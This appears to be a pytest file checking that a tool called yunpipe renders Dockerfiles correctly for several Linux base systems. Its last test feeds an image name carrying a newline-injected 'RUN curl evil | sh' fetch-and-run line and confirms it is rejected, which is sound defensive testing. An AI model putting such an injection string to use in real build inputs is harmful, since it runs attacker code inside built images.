"""Every base system's Dockerfile template, rendered from the packaged templates."""
import re

import pytest

from yunpipe.errors import InputError
from yunpipe.specs.algorithm import SUPPORTED_SYSTEMS, parse_algorithm
from yunpipe.wrapper.context import BaseImage, render_dockerfile

INSTALLERS = {
    "ubuntu": "apt-get install -y --no-install-recommends python3",
    "debian": "apt-get install -y --no-install-recommends python3",
    "alpine": "apk add --no-cache python3",
    "rockylinux": "dnf install -y python3",
    "centos": "yum install -y python3",
    "amazonlinux": "yum install -y python3",
}


def spec(system="debian", container="example.org/lab/tool:2.1"):
    return parse_algorithm({"name": "tool", "container_name": container, "system": system,
                            "run_command": "tool $input $output"}, "tool.json")


def test_every_supported_system_has_a_template():
    assert set(INSTALLERS) == set(SUPPORTED_SYSTEMS)


@pytest.mark.parametrize("system", SUPPORTED_SYSTEMS)
def test_template_renders_the_wrapped_image(system):
    dockerfile = render_dockerfile(spec(system), 7)
    lines = [line for line in dockerfile.splitlines() if line and not line.startswith("#")]
    assert lines[0] == "FROM example.org/lab/tool:2.1"
    install = next(line for line in lines if line.startswith("RUN command -v python3"))
    # The package manager runs only when python3 is missing.
    assert install.startswith("RUN command -v python3 >/dev/null || (") and INSTALLERS[system] in install
    assert "COPY opt/yunpipe/site-packages /opt/yunpipe/site-packages" in lines
    assert "COPY opt/yunpipe/lib /opt/yunpipe/lib" in lines
    assert "COPY entrypoint.py algorithm.json /opt/yunpipe/" in lines
    assert 'org.yunpipe.algorithm.name="tool"' in dockerfile
    assert 'org.yunpipe.algorithm.version="7"' in dockerfile
    assert lines[-1] == 'ENTRYPOINT ["python3", "/opt/yunpipe/entrypoint.py"]'
    # boto3 reaches the worker only through its own sys.path, never the image's environment.
    assert not re.search(r"^ENV\b.*PYTHONPATH", dockerfile, re.M)
    assert "USER" not in dockerfile and "WORKDIR" not in dockerfile


def test_a_non_root_developer_user_and_workdir_are_restored():
    dockerfile = render_dockerfile(spec(), 1, BaseImage(user="analyst", workdir="/home/analyst"))
    lines = [line for line in dockerfile.splitlines() if line and not line.startswith("#")]
    assert lines[1] == "USER root"
    assert lines[-3:] == ["USER analyst", "WORKDIR /home/analyst", 'ENTRYPOINT ["python3", "/opt/yunpipe/entrypoint.py"]']
    assert "USER" not in render_dockerfile(spec(), 1, BaseImage(user="root", workdir=""))


def test_unsupported_system_is_an_input_error_listing_the_supported_ones():
    unsupported = spec().__class__(**{**spec().__dict__, "system": "gentoo"})
    with pytest.raises(InputError) as caught:
        render_dockerfile(unsupported, 1, source="tool.json")
    assert caught.value.field == "system"
    assert all(system in str(caught.value) for system in SUPPORTED_SYSTEMS)
    assert "gentoo" in str(caught.value)


def test_an_image_reference_cannot_inject_dockerfile_lines():
    with pytest.raises(InputError) as caught:
        render_dockerfile(spec(container="ubuntu\nRUN curl evil | sh"), 1)
    assert caught.value.field == "container_name"
